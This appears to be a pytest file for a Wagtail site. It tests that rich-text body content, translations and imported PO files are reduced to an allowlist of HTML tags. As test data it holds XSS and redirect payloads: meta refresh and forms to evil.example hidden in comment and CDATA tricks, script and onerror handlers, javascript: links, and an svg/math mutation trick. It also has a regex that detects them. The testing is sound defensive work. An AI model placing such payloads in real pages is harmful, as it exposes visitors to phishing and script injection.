"""Rich text: nothing on a page but what an editor can write, whichever way it came into the database."""

import re
from pathlib import Path
from urllib.parse import urlencode

import polib
import pytest
from django.conf import settings
from django.contrib.auth.models import Group
from django.template import Context, Template
from django.template.loader import get_template
from django.urls import reverse
from factories.network import UserFactory
from wagtail.models import Locale
from wagtail.rich_text import RichText
from wagtail_localize.models import StringSegment, StringTranslation, Translation, TranslationSource

from config.foundation import add_page
from home.blocks import BodyBlock
from home.models import StandardPage
from home.text.rich_text import allowed_html

REFRESH = '<meta http-equiv="refresh" content="0;url=https://evil.example"><form action="https://evil.example"><input>'
HOSTILE = [
    f"Texte.<!-->{REFRESH}-->",
    f"Texte.<!--->{REFRESH}-->",
    f"Texte.<!-- --!>{REFRESH}<!-- -->",
    f"Texte.<![CDATA[>{REFRESH}]]>",
    f"Texte.<!DOCTYPE x [{REFRESH}]>",
    f"Texte.<?php >{REFRESH}?>",
    f"Texte.</ >{REFRESH}",
    f"Texte.</#>{REFRESH}",
]
# Not written as rich text by any parser, but left in a page by a script or an older version.
LEFT = [
    f"<p>Texte.{REFRESH}</p>",
    '<p onclick="x()" style="position:fixed">Texte.</p>',
    "<p>Texte.<script>alert(1)</script><style>p{}</style><iframe src=//evil.example></iframe></p>",
    '<p>Texte.<a href="javascript:alert(1)">a</a><a href="data:text/html,x">b</a></p>',
    "<p>Texte.<svg><style><img src=x onerror=alert(1)></style></svg><math><mtext></form><form>",
    f"<p>Texte.<textarea></textarea><title>{REFRESH}",
]
FORBIDDEN = re.compile(r"<(?!/?(?:p|br|b|strong|i|em|abbr|code|a|ol|ul|li)\b)|javascript:|data:|\son\w+=|style=", re.I)


@pytest.mark.parametrize("source", [*HOSTILE, *LEFT])
def test_a_page_holds_nothing_but_what_an_editor_can_write_when_its_text_holds_more(source):
    block = BodyBlock()
    stream = block.to_python([{"type": "text", "value": source}])
    shown = {
        "block": stream[0].render(),
        "value": str(RichText(source)),
        "filter": Template("{% load wagtailcore_tags %}{{ text|richtext }}").render(Context({"text": source})),
    }
    for way, html in shown.items():
        inside = html.strip().removeprefix('<div class="prose__text">').removesuffix("</div>")
        assert "Texte." in inside, way
        assert not FORBIDDEN.search(inside), way


@pytest.mark.parametrize(
    ("source", "shown"),
    [
        ('<p data-block-key="a1">Un <b>deux</b><br/><i>trois</i></p>', "<p>Un <b>deux</b><br><i>trois</i></p>"),
        ("<ol><li>a</li></ol><ul><li>b</li></ul>", "<ol><li>a</li></ol><ul><li>b</li></ul>"),
        ('<p><a href="https://a.be/?a=1&amp;b=2">x</a></p>', '<p><a href="https://a.be/?a=1&amp;b=2">x</a></p>'),
        ('<p><a href="mailto:a@b.be">x</a></p>', '<p><a href="mailto:a@b.be">x</a></p>'),
        ('<p><a href="tel:+3225550100">x</a></p>', '<p><a href="tel:+3225550100">x</a></p>'),
        ('<p><a href="/fr/#a" lang="nl" rel="me">x</a></p>', '<p><a href="/fr/#a" lang="nl" rel="me">x</a></p>'),
        ("<p>3 &lt; 4 &amp; « é »</p>", "<p>3 &lt; 4 &amp; « é »</p>"),
    ],
)  # fmt: skip
def test_what_an_editor_writes_is_shown_as_it_is_when_it_passes_the_list(source, shown):
    assert str(RichText(source)).strip() == shown
    assert allowed_html(shown) == shown


def test_no_template_shows_rich_text_past_the_list():
    ours = settings.ROOT / "templates"
    assert Path(get_template("wagtailcore/shared/richtext.html").origin.name).is_relative_to(ours)
    past = [
        str(path.relative_to(ours))
        for path in ours.rglob("*.html")
        if re.search(r"\|\s*safe\b|safeseq|autoescape off|expand_db_html", path.read_text())
    ]
    assert past == []


@pytest.fixture
def translation(site_tree):
    """The begun Dutch translation of a page with one paragraph."""
    body = [("text", RichText('<p data-block-key="a1">Bonjour à tous.</p>'))]
    page = add_page(site_tree, StandardPage(title="Accueil des voisins", body=body), publish=True)
    source, _created = TranslationSource.update_or_create_from_instance(page)
    return Translation.objects.create(source=source, target_locale=Locale.objects.get(language_code="nl"))


def shown_in_dutch(translation) -> str:
    translation.save_target(publish=True)
    page = translation.get_target_instance()
    return str(page.body)


@pytest.mark.django_db
@pytest.mark.parametrize("value", HOSTILE)
def test_a_translation_is_refused_in_words_when_it_hides_markup_in_what_is_no_element(value, translation, signed_in):
    editor = UserFactory()
    editor.groups.add(Group.objects.get(name="Rédaction"))
    segment = StringSegment.objects.get(string__data="Bonjour à tous.")
    address = reverse("wagtail_localize:edit_string_translation", args=[translation.pk, segment.pk])
    translation.save_target(publish=False)
    sent = urlencode({"value": value})
    response = signed_in(editor).put(address, sent, content_type="application/x-www-form-urlencoded")
    assert response.status_code in (200, 201)
    assert response.json()["error"]
    assert StringTranslation.objects.get(translation_of=segment.string).has_error
    assert not FORBIDDEN.search(shown_in_dutch(translation).replace("div", "p"))


@pytest.mark.django_db
@pytest.mark.parametrize("value", HOSTILE)
def test_a_translation_is_not_used_when_a_file_brings_hidden_markup(value, translation):
    file = polib.POFile()
    file.metadata = {"X-WagtailLocalize-TranslationID": str(translation.uuid)}
    for segment in StringSegment.objects.filter(source=translation.source):
        words = value if segment.string.data == "Bonjour à tous." else "Onthaal"
        file.append(polib.POEntry(msgid=segment.string.data, msgctxt=segment.context.path, msgstr=words))
    translation.import_po(file)
    assert StringTranslation.objects.get(data=value).has_error
    shown = shown_in_dutch(translation)
    assert "evil" not in shown
    # Once it is mended it is used.
    StringTranslation.objects.filter(data=value).first().delete()
    for entry in file:
        entry.msgstr = "Dag <b>iedereen</b> < 3." if entry.msgstr == value else entry.msgstr
    translation.import_po(file)
    assert not StringTranslation.objects.filter(has_error=True).exists()
